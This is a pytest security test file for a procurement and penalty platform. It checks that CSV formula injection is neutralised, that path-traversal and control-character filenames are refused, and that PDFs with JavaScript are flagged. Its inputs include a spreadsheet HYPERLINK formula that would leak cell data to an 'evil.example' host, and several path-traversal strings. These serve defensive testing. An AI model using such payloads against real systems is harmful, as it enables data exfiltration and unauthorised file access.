"""Attacks through files and bad input, tried through HTTP on the emulators (docs/security.md, threat model):
formula injection in the CSV the other party opens, uploads that escape their rules, PDFs carrying active
content, ids that would make a path of the query."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
import uuid

import pytest
import requests

from shared import bootstrap
from shared.domain.penalties import PenaltyTerms
from shared.service import deadlines as svc
from shared.service.transaction import transact
from tests.builders import issue_order_body
from tests.pdfs import a_pdf, a_pdf_with_javascript

pytestmark = pytest.mark.emulators
ORDER = "BC-ATTACK-1"


def codes(response: requests.Response) -> list[tuple[str, str]]:
    return [(e["field"], e["code"]) for e in response.json()["errors"]]


def upload(platform, erp, data: bytes, filename: str) -> requests.Response:
    return requests.post(platform.url("store_report") + "/", timeout=30,
                         headers={"Authorization": f"Bearer {erp.token}", "Idempotency-Key": uuid.uuid4().hex},
                         data={"manager_id": "mgr-test", "order_id": ORDER, "kind": "invoice"},
                         files={"file": (filename, data, "application/pdf")})


def test_a_formula_typed_as_a_penalty_reason_is_neutralised_in_the_csv_the_contractor_opens(platform, manager,
                                                                                           contractor):
    # Given a missed deadline with a day in the ledger (its timer fires at once: due an hour ago)
    now = dt.datetime.now(dt.UTC)
    planned = svc.plan_deadline("D8", "D8-CSV-1", tenant_id="mgr-test", territory="69",
                                started_at=now - dt.timedelta(hours=2), ref="incident-csv", variant="1",
                                contractor_id="ctr-test", contract_id="AC-2026-017",
                                terms=PenaltyTerms(rules_by_kind={"D8": "P1"}))
    uow = bootstrap.uow()
    transact(uow, lambda: svc.open_deadline(uow, planned, bootstrap.clock().now()))
    deadline = time.monotonic() + 30
    while not (ledger := svc.entries_of_deadline(bootstrap.reader(), "mgr-test", "D8-CSV-1")):
        assert time.monotonic() < deadline, "the timer did not accrue the missed day"
        time.sleep(0.2)
    # When the manager disputes it with a reason that is a spreadsheet formula
    attack = '=HYPERLINK("https://evil.example/?"&A1;"Voir le détail")'
    decided = manager.post("decide_penalty", {"entry_id": ledger[0].entry_id, "action": "dispute", "reason": attack})
    assert decided.status_code == 200, decided.text
    # Then the contractor's statement, in French CSV, carries it as text, and the amounts stay numbers
    statement = requests.get(platform.url("get_penalty_statement") + "/", timeout=30,
                             params={"manager_id": "mgr-test", "month": ledger[0].month, "format": "csv"},
                             headers={"Authorization": f"Bearer {contractor.token}"})
    assert statement.status_code == 200, statement.text
    rows = list(csv.reader(io.StringIO(statement.content.decode("utf-8-sig")), delimiter=";"))
    [line] = [r for r in rows[1:] if r and r[1] == "D8 — Première réponse à un incident"]
    assert line[9] == "'" + attack and line[7] == "150,00"
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_uploads_keep_to_one_filename_rule_and_pdfs_with_active_content_are_flagged(platform, manager, contractor):
    assert manager.post("receive_order", issue_order_body(ORDER)).status_code == 201
    # When a multipart upload names its file with a path or a control character
    for filename in ("../../managers/mgr-other/x.pdf", "facture\x07.pdf", "a" * 201 + ".pdf"):
        refused = upload(platform, contractor, a_pdf("x"), filename)
        # Then it is refused as the signed upload's JSON would be, naming the file's name
        assert refused.status_code == 400 or refused.status_code == 422, refused.text
        assert [f for f, _ in codes(refused)] == ["$.file.filename"], refused.text
    signed = contractor.post("request_report_upload", {"manager_id": "mgr-test", "order_id": ORDER, "kind": "invoice",
                                                       "filename": "../x.pdf", "size_bytes": 10})
    assert codes(signed) == [("$.filename", "INVALID_FORMAT")]
    # When a PDF that runs JavaScript is attached
    stored = upload(platform, contractor, a_pdf_with_javascript(), "facture.pdf")
    # Then it is stored, flagged on its record, and shown as such to the manager
    assert stored.status_code == 201, stored.text
    assert stored.json()["document"]["active_content"] == ["javascript"]
    listed = requests.get(platform.url("get_documents") + "/", params={"order_id": ORDER}, timeout=30,
                          headers={"Authorization": f"Bearer {manager.token}"}).json()["documents"]
    assert [d["active_content"] for d in listed] == [["javascript"]]
    # And a signed upload URL is bound to the size declared and to one creation
    grant = contractor.post("request_report_upload", {"manager_id": "mgr-test", "order_id": ORDER,
                                                      "kind": "invoice", "filename": "f.pdf", "size_bytes": 4096})
    assert grant.status_code == 201, grant.text
    assert grant.json()["headers"]["x-goog-content-length-range"] == "0,4096"
    assert grant.json()["headers"]["x-goog-if-generation-match"] == "0"


@pytest.mark.parametrize(("function", "params", "field"), [
    ("get_order", {"order_id": "BC-1", "manager_id": "a/b"}, "query.manager_id"),
    ("get_order", {"order_id": "../../x"}, "query.order_id"),
    ("get_documents", {"order_id": "BC-1", "sha256": "../x"}, "query.sha256"),
    ("get_quote", {"quote_id": "DEV/1"}, "query.quote_id"),
    ("get_catalogue", {"contract_id": "AC 1"}, "query.contract_id"),
    ("list_orders", {"contractor_id": "ctr/other"}, "query.contractor_id"),
    ("get_penalty_statement", {"contractor_id": "..", "month": "2026-03"}, "query.contractor_id"),
    ("export_space", {"job_id": "x/y"}, "query.job_id"),
    ("export_space", {}, "query.job_id"),
])
def test_an_id_in_a_query_that_breaks_the_identifier_rule_is_a_400_naming_it(platform, manager, function, params,
                                                                             field):
    role_token = manager.token
    if params.get("manager_id"):  # naming the manager is a contractor's query
        from devtools.tokens import emulator_token

        role_token = emulator_token(platform.project_id, "erp-ctr-test", role="contractor", tenant="ctr-test")
    answer = requests.get(platform.url(function) + "/", params=params, timeout=30,
                          headers={"Authorization": f"Bearer {role_token}"})
    assert answer.status_code == 400, answer.text
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert [f for f, _ in codes(answer)] == [field] and answer.json()["errors"][0]["message"]
